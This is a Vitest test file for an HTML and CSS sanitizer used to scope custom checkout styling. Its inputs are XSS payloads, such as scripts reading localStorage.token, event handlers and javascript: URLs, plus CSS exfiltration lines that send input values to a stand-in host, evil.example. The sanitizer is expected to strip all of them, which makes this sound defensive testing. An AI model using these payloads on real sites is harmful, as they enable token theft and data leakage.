import { describe, expect, it } from 'vitest'
import { sanitizeCss, sanitizeHtml, scopeSelector } from './sanitize'

describe('sanitizeHtml', () => {
  it('removes scripts, styles, iframes, forms and objects with their content', () => {
    const out = sanitizeHtml(
      '<p>Olá</p><script>alert(localStorage.token)</script><style>body{display:none}</style>' +
        '<iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name="cpf"><button>ok</button></form>' +
        '<object data="x.swf"></object><svg onload="alert(1)"><script>1</script></svg><noscript><img src=x></noscript>',
    )
    expect(out).toBe('<p>Olá</p>ok')
  })
  it('drops event handlers, ids, names and javascript: or data: URLs', () => {
    const out = sanitizeHtml(
      '<img src="x" onerror="alert(1)" id="token"><a href="javascript:alert(1)" onclick="x()">a</a>' +
        '<a href="JaVaScRiPt:alert(1)">b</a><a href="data:text/html,<script>1</script>">c</a>' +
        '<div onmouseover="x()" name="y" class="ok">d</div><img src="https://cdn.example/logo.png" alt="Logo">',
    )
    expect(out).not.toMatch(/onerror|onclick|onmouseover|javascript|data:|id=|name=/i)
    expect(out).toContain('<a>a</a>')
    expect(out).toContain('<div class="ok">d</div>')
    expect(out).toContain('<img src="https://cdn.example/logo.png" alt="Logo" />')
  })
  it('keeps formatting, safe links and upload images; forces noopener on new tabs', () => {
    const out = sanitizeHtml(
      '<h2>Título</h2><p><strong>Frete</strong> <em>grátis</em></p><a href="https://loja.example" target="_blank">loja</a>' +
        '<img src="/uploads/logo.png"><img src="/api/users/profile">',
    )
    expect(out).toContain('<h2>Título</h2><p><strong>Frete</strong> <em>grátis</em></p>')
    expect(out).toContain('<a href="https://loja.example" target="_blank" rel="noopener noreferrer">loja</a>')
    expect(out).toContain('<img src="/uploads/logo.png" />')
    expect(out).not.toContain('/api/')
  })
  it('keeps harmless inline styles and drops dangerous ones', () => {
    const out = sanitizeHtml(
      '<p style="color: red; text-align: center; background: url(https://evil.example/x); position: fixed; width: expression(alert(1))">x</p>',
    )
    expect(out).toBe('<p style="color:red;text-align:center">x</p>')
  })
  it('returns empty for empty input', () => {
    expect(sanitizeHtml(null)).toBe('')
    expect(sanitizeHtml('')).toBe('')
  })
})

describe('scopeSelector', () => {
  it.each([
    // every selector is prefixed with the container
    ['.btn', '.checkout-custom .btn'],
    ['h1 > span', '.checkout-custom h1 > span'],
    ['*', '.checkout-custom *'],
    ['input[value^="1"]', '.checkout-custom input[value^="1"]'],
    // html, body and :root become the container
    ['body', '.checkout-custom'],
    [':root', '.checkout-custom'],
    ['html body .x', '.checkout-custom .x'],
    ['html > body > .x', '.checkout-custom > .x'],
    ['body.dark', '.checkout-custom.dark'],
    ['.checkout-custom .btn', '.checkout-custom .btn'],
    ['.checkout-customer', '.checkout-custom .checkout-customer'],
    // selectors that reach outside the container are dropped
    ['body ~ div', undefined],
    ['.checkout-custom + *', undefined],
    ['a\\62 ody', undefined],
  ])('scopes %s as %s', (selector, scoped) => expect(scopeSelector(selector)).toBe(scoped))
})

describe('sanitizeCss', () => {
  it('scopes every rule, also inside @media', () => {
    const out = sanitizeCss(
      'body { background: #fff } .btn, h1 { color: red !important }\n@media (max-width: 600px) { html .btn { padding: 4px } }',
    )
    expect(out).toBe(
      '.checkout-custom { background: #fff }\n' +
        '.checkout-custom .btn, .checkout-custom h1 { color: red !important }\n' +
        '@media (max-width: 600px) {\n.checkout-custom .btn { padding: 4px }\n}',
    )
  })
  it('drops @import, expression(), behavior, javascript: and foreign url()', () => {
    const out = sanitizeCss(
      '@import url("https://evil.example/x.css"); @charset "utf-8";\n' +
        '.a { width: expression(alert(1)); behavior: url(x.htc); -moz-binding: url(x.xml#y); color: blue }\n' +
        '.b { background: url(javascript:alert(1)); border: 1px solid red }\n' +
        '.c { background-image: url(https://evil.example/leak?c=1) }\n' +
        'input[value^="4"] { background: url("https://evil.example/k?4") }\n' +
        '.d { background: image-set("https://evil.example/x" 1x) }\n' +
        '.e { background: url(/uploads/bg.png) center }',
    )
    expect(out).toBe(
      '.checkout-custom .a { color: blue }\n' +
        '.checkout-custom .b { border: 1px solid red }\n' +
        '.checkout-custom .e { background: url(/uploads/bg.png) center }',
    )
  })
  it('drops escapes, comments hiding tricks, fixed overlays and style breakouts', () => {
    const out = sanitizeCss(
      '.a { background: u\\72 l(https://evil.example) } /* } body { display:none } */ ' +
        '.b { position: fixed; inset: 0; z-index: 99999 } .c { color: red } </style><script>alert(1)</script>',
    )
    expect(out).toContain('.checkout-custom .b { inset: 0; z-index: 99999 }')
    expect(out).toContain('.checkout-custom .c { color: red }')
    expect(out).not.toMatch(/evil|display:\s*none|fixed|<\/?style|<script/i)
  })
  it('keeps keyframes and font-face with clean declarations, drops unknown at-rules and nesting', () => {
    const out = sanitizeCss(
      '@keyframes pulse { from { opacity: 1 } 50% { opacity: .5; background: url(https://evil.example) } to { opacity: 1 } }' +
        '@font-face { font-family: Minha; src: url(/uploads/minha.woff2) }' +
        '@page { margin: 0 } .x { .y { color: red } }',
    )
    expect(out).toBe(
      '@keyframes pulse {\nfrom { opacity: 1 }\n50% { opacity: .5 }\nto { opacity: 1 }\n}\n@font-face { font-family: Minha; src: url(/uploads/minha.woff2) }',
    )
  })
  it('survives garbage', () => {
    expect(sanitizeCss('}}}{{{ color: red')).toBe('')
    expect(sanitizeCss('.a { color: red')).toBe('.checkout-custom .a { color: red }')
    expect(sanitizeCss(null)).toBe('')
  })
})
